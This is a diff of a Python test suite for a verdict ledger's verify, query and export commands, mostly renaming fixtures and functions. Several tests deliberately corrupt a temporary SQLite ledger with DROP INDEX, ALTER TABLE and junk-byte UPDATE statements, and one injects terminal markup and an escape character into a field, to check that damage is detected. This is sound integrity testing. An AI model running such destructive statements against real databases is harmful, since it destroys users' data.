-        assert export_parquet(base, Filter(), target) == 12_006  # more than one batch
-        rows = list(query(base, Filter()))
+        assert export_parquet(base, VerdictFilter(), target) == 12_006  # more than one batch
+        rows = list(find_verdicts(base, VerdictFilter()))
     table = parquet.read_table(target)
     assert tuple(table.column_names) == COLUMNS
     assert list(zip(*table.to_pydict().values(), strict=True)) == rows
@@ -678,26 +684,28 @@ def test_parquet_comes_back_as_it_was(desk: Desk, tmp_path: Path) -> None:
 
 
 def test_parquet_without_pyarrow_names_the_extra(
-    desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    desk: LedgerFixture, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    desk.writer.catch_up()
+    desk.writer.write_backlog()
     monkeypatch.setitem(sys.modules, "pyarrow", None)
     with closing(open_ledger(desk.path)) as base, pytest.raises(MissingExtraError, match="parquet"):
-        export_parquet(base, Filter(), tmp_path / "out.parquet")
+        export_parquet(base, VerdictFilter(), tmp_path / "out.parquet")
 
 
-def test_an_export_that_fails_leaves_nothing_and_harms_nothing(desk: Desk, tmp_path: Path) -> None:
-    desk.judge(2)
-    desk.writer.catch_up()
+def test_an_export_that_fails_leaves_nothing_and_harms_nothing(
+    desk: LedgerFixture, tmp_path: Path
+) -> None:
+    desk.add_verdicts(2)
+    desk.writer.write_backlog()
     with closing(open_ledger(desk.path)) as base:
         with pytest.raises(UsageError, match="cannot be written"):
-            export_csv(base, Filter(), tmp_path / "nowhere" / "out.csv")
+            export_csv(base, VerdictFilter(), tmp_path / "nowhere" / "out.csv")
         with pytest.raises(UsageError, match="is the ledger itself"):
-            export_csv(base, Filter(), desk.path)
-    assert verify(desk.path).holds
-    desk.alter("DROP INDEX verdicts_time", "ALTER TABLE verdicts RENAME COLUMN total_us TO other")
+            export_csv(base, VerdictFilter(), desk.path)
+    assert verify_ledger(desk.path).is_consistent
+    desk.execute("DROP INDEX verdicts_time", "ALTER TABLE verdicts RENAME COLUMN total_us TO other")
     with closing(open_ledger(desk.path)) as base, pytest.raises(DataError):
-        export_csv(base, Filter(), tmp_path / "out.csv")
+        export_csv(base, VerdictFilter(), tmp_path / "out.csv")
     assert not list(tmp_path.glob("out.csv*"))
 
 
@@ -720,19 +728,19 @@ def test_an_export_that_fails_leaves_nothing_and_harms_nothing(desk: Desk, tmp_p
         ("UPDATE causes SET dictionary = x'00'", "verdict 1: its body"),
     ],
 )
-def test_every_harm_is_found(desk: Desk, harm: str, problem: str) -> None:
-    desk.judge(5)
-    desk.writer.catch_up()
-    desk.alter(harm)
-    account = verify(desk.path)
-    assert not account.holds
+def test_every_harm_is_found(desk: LedgerFixture, harm: str, problem: str) -> None:
+    desk.add_verdicts(5)
+    desk.writer.write_backlog()
+    desk.execute(harm)
+    account = verify_ledger(desk.path)
+    assert not account.is_consistent
     assert any(problem in words for words in account.problems), account.problems
     assert run("verify", str(desk.path))[0] == 65
 
 
-def test_a_ledger_that_differs_from_the_spool_is_found(desk: Desk) -> None:
-    desk.judge(5)
-    desk.writer.catch_up()
+def test_a_ledger_that_differs_from_the_spool_is_found(desk: LedgerFixture) -> None:
+    desk.add_verdicts(5)
+    desk.writer.write_backlog()
     other = desk.restart()
     with closing(open_ledger(other.path)) as base:
         rest = read_body(base, 4)
@@ -744,30 +752,30 @@ def test_a_ledger_that_differs_from_the_spool_is_found(desk: Desk) -> None:
         slot[slot.index(rest) + 20] ^= 1
         file.seek(at)
         file.write(slot)
-    account = verify(other.path, other.spool_path)
+    account = verify_ledger(other.path, other.spool_path)
     assert account.problems == ["frame 4 in the spool has lost its verdict"]
     other.dispose()
 
 
 def test_what_is_neither_in_ledger_nor_spool_is_found(tmp_path: Path) -> None:
-    desk = Desk(tmp_path, slots=64)
-    desk.judge(5)
-    desk.writer.catch_up()
-    desk.judge(100)
-    problems = verify(desk.path, desk.spool_path).problems
+    desk = LedgerFixture(tmp_path, slots=64)
+    desk.add_verdicts(5)
+    desk.writer.write_backlog()
+    desk.add_verdicts(100)
+    problems = verify_ledger(desk.path, desk.spool_path).problems
     assert problems == ["verdicts 6 to 41 are neither in ledger nor spool"]
-    assert verify(desk.path, tmp_path / "none").problems
+    assert verify_ledger(desk.path, tmp_path / "none").problems
     desk.dispose()
 
 
 # -- the command --------------------------------------------------------------------------
 
 
-def test_command_line(desk: Desk, tmp_path: Path) -> None:
-    desk.judge(4)
-    desk.judge(1, Decision.REJECT, part=HOSTILE)
-    desk.writer.note("operator.acted", {"what": "[/]\x1b"}, actor="[b]me")
-    desk.writer.catch_up(last=True)
+def test_command_line(desk: LedgerFixture, tmp_path: Path) -> None:
+    desk.add_verdicts(4)
+    desk.add_verdicts(1, Decision.REJECT, part=HOSTILE)
+    desk.writer.record_event("operator.acted", {"what": "[/]\x1b"}, actor="[b]me")
+    desk.writer.write_backlog(last=True)
     path = str(desk.path)
     code, output = run("verify", path, "--spool", str(desk.spool_path), "--json")
     assert code == 0
@@ -785,9 +793,11 @@ def test_command_line(desk: Desk, tmp_path: Path) -> None:
     assert run("export", path, "--csv", str(tmp_path / "out.csv"))[1] == "5 verdicts\n"
 
 
-def test_a_configuration_says_where_ledger_and_spool_are(desk: Desk, tmp_path: Path) -> None:
-    desk.judge(4)
-    desk.writer.catch_up()
+def test_a_configuration_says_where_ledger_and_spool_are(
+    desk: LedgerFixture, tmp_path: Path
+) -> None:
+    desk.add_verdicts(4)
+    desk.writer.write_backlog()
     text = f"""\
 schema: 1
 line: t
@@ -804,7 +814,7 @@ spool: {{folder: {tmp_path}}}
         run("verify", str(path))
     path.write_text(f"{text}ledger: {{folder: {tmp_path}}}\n")
     assert run("verify", str(path))[0] == 0
-    desk.spool.dispose()
+    desk.spool.release()
     desk.spool_path.unlink()
     assert run("verify", str(path))[0] == 65
 
@@ -830,7 +840,7 @@ spool: {{folder: {tmp_path}}}
     [["query"], ["query", "--json"], ["export", "--csv", "o"], ["export", "--parquet", "o"]],
 )
 def test_a_row_of_another_kind_is_damage(
-    desk: Desk,
+    desk: LedgerFixture,
     tmp_path: Path,
     monkeypatch: pytest.MonkeyPatch,
     harm: str,
@@ -840,9 +850,9 @@ def test_a_row_of_another_kind_is_damage(
     if "--parquet" in words:
         pytest.importorskip("pyarrow")
     monkeypatch.chdir(tmp_path)
-    desk.judge(2)
-    desk.writer.catch_up()
-    desk.alter(harm)
+    desk.add_verdicts(2)
+    desk.writer.write_backlog()
+    desk.execute(harm)
     assert main(["ledger", words[0], str(desk.path), *words[1:]]) == 65
     assert "unforeseen" not in capsys.readouterr().err
     assert not Path("o").exists()
@@ -861,21 +871,21 @@ def test_a_row_of_another_kind_is_damage(
     ],
 )
 def test_what_no_ledger_holds_is_refused(
-    desk: Desk, harm: str, capsys: pytest.CaptureFixture[str]
+    desk: LedgerFixture, harm: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    desk.judge(2)
-    desk.writer.catch_up()
-    desk.alter(harm)
+    desk.add_verdicts(2)
+    desk.writer.write_backlog()
+    desk.execute(harm)
     assert main(["ledger", "verify", str(desk.path)]) == 65
     assert "unforeseen" not in capsys.readouterr().err
 
 
 def test_bodies_and_events_of_another_kind_are_no_bug(
-    desk: Desk, capsys: pytest.CaptureFixture[str]
+    desk: LedgerFixture, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    desk.judge(2)
-    desk.writer.note("line.started")
-    desk.writer.catch_up()
+    desk.add_verdicts(2)
+    desk.writer.record_event("line.started")
+    desk.writer.write_backlog()
     for harm, words, code in (
         ("UPDATE verdicts SET body = 'text'", ["query"], 0),
         ("UPDATE verdicts SET body = 'text'", ["query", "--whole"], 65),
@@ -886,7 +896,7 @@ def test_bodies_and_events_of_another_kind_are_no_bug(
         ("UPDATE events SET detail = x'ff'", ["events"], 65),
         ("UPDATE events SET detail = '', at_utc_ns = 'x'", ["events"], 65),
     ):
-        desk.alter(harm)
+        desk.execute(harm)
         assert main(["ledger", words[0], str(desk.path), *words[1:]]) == code, harm
         assert "unforeseen" not in capsys.readouterr().err
 
@@ -919,7 +929,7 @@ def test_bodies_and_events_of_another_kind_are_no_bug(
     ],
 )
 def test_exit_codes(
-    desk: Desk,
+    desk: LedgerFixture,
     tmp_path: Path,
     monkeypatch: pytest.MonkeyPatch,
     capsys: pytest.CaptureFixture[str],
@@ -927,8 +937,8 @@ def test_exit_codes(
     code: int,
 ) -> None:
     monkeypatch.chdir(tmp_path)
-    desk.judge(2)
-    desk.writer.catch_up()
+    desk.add_verdicts(2)
+    desk.writer.write_backlog()
     Path("junk").write_bytes(b"junk" * 4096)
     Path("empty").touch()
     make("other", "CREATE TABLE things (x)")
@@ -946,9 +956,9 @@ def make(name: str, *statements: str) -> None:
             base.execute(statement)
 
 
-def test_a_copy_that_cannot_be_written_to_is_read(desk: Desk, tmp_path: Path) -> None:
-    desk.judge(2)
-    desk.writer.catch_up()
+def test_a_copy_that_cannot_be_written_to_is_read(desk: LedgerFixture, tmp_path: Path) -> None:
+    desk.add_verdicts(2)
+    desk.writer.write_backlog()
     desk.writer.close()
     odd = tmp_path / "with ?#% in it"
     odd.mkdir()
@@ -956,14 +966,14 @@ def test_a_copy_that_cannot_be_written_to_is_read(desk: Desk, tmp_path: Path) ->
     copy.write_bytes(desk.path.read_bytes())
     copy.chmod(0o400)
     odd.chmod(0o500)
-    assert verify(copy).holds
+    assert verify_ledger(copy).is_consistent
 
 
 def test_a_ledger_that_somebody_holds_is_not_read_meanwhile(
-    desk: Desk, capsys: pytest.CaptureFixture[str]
+    desk: LedgerFixture, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    desk.judge(2)
-    desk.writer.catch_up()
+    desk.add_verdicts(2)
+    desk.writer.write_backlog()
     desk.writer.close()
     with closing(sqlite3.connect(desk.path, isolation_level=None)) as other:
         other.execute("PRAGMA journal_mode = DELETE")
